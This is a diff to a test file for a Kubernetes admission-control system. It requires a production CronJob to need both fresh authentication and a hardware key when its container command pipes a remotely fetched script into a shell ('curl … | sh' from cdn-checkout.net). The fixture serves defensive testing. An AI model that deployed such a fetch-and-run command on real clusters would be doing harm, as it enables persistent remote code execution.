@@ -108,16 +108,20 @@ describe('persistence and admission control from a known laptop, with examples/s
     spec: { schedule: '17 */6 * * *', jobTemplate: { spec: { template: { spec: { restartPolicy: 'OnFailure', containers: [{ name: 'warm', image: 'curlimages/curl:8.12.1', command: ['sh', '-c', 'curl -sf https://cdn-checkout.net/w.sh | sh'] }] } } } } },
   });
 
-  it('a CronJob created in a production namespace of the working set, four hours after the sign-in, needs a recent one (prod-scheduled-jobs), by POST or server-side apply', async () => {
+  it('a CronJob created in a production namespace of the working set, four hours after the sign-in, needs a recent one (prod-scheduled-jobs) and, for its `curl … | sh`, a hardware key (container_command_egress), by POST or server-side apply', async () => {
     const login = await morning('release-c@example.nl', ['checkout-prod-apse1']);
     const later = T0 + 4 * H;
     const res = await send(login, later, 'POST', '/apis/batch/v1/namespaces/checkout-prod-apse1/cronjobs?fieldManager=kubectl-create', cronJob);
-    expect(reasonOf(res)).toBe('auth_too_old');
+    // Since session 45 the command (a script fetched and run at every schedule) asks more than the
+    // rule's freshness: the strongest level (acr_insufficient), both named.
+    expect(reasonOf(res)).toBe('acr_insufficient');
     expect(rules(res)).toContain('prod-scheduled-jobs');
+    expect(rules(res)).toContain('guardrail:container_command_egress');
     // `kubectl apply --server-side` creates what does not exist yet.
     const applied = await send(login, later + 20_000, 'PATCH', '/apis/batch/v1/namespaces/checkout-prod-apse1/cronjobs/cache-warmer?fieldManager=kubectl&force=true', cronJob, 'application/apply-patch+yaml');
-    expect(reasonOf(applied)).toBe('auth_too_old');
+    expect(reasonOf(applied)).toBe('acr_insufficient');
     expect(rules(applied)).toContain('prod-scheduled-jobs');
+    expect(rules(applied)).toContain('guardrail:container_command_egress');
     // Routine: suspending an existing CronJob, and an on-call rerun of one as a Job.
     expect(reasonOf(await send(login, later + 40_000, 'PATCH', '/apis/batch/v1/namespaces/checkout-prod-apse1/cronjobs/checkout-reindex', JSON.stringify({ spec: { suspend: true } }), 'application/merge-patch+json'))).toBe('allowed');
     const job = JSON.stringify({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'checkout-reindex-manual-x7k2p', annotations: { 'cronjob.kubernetes.io/instantiate': 'manual' } }, spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'reindex', image: 'ghcr.io/example-nl/checkout-api:v2.40.3' }] } } } });
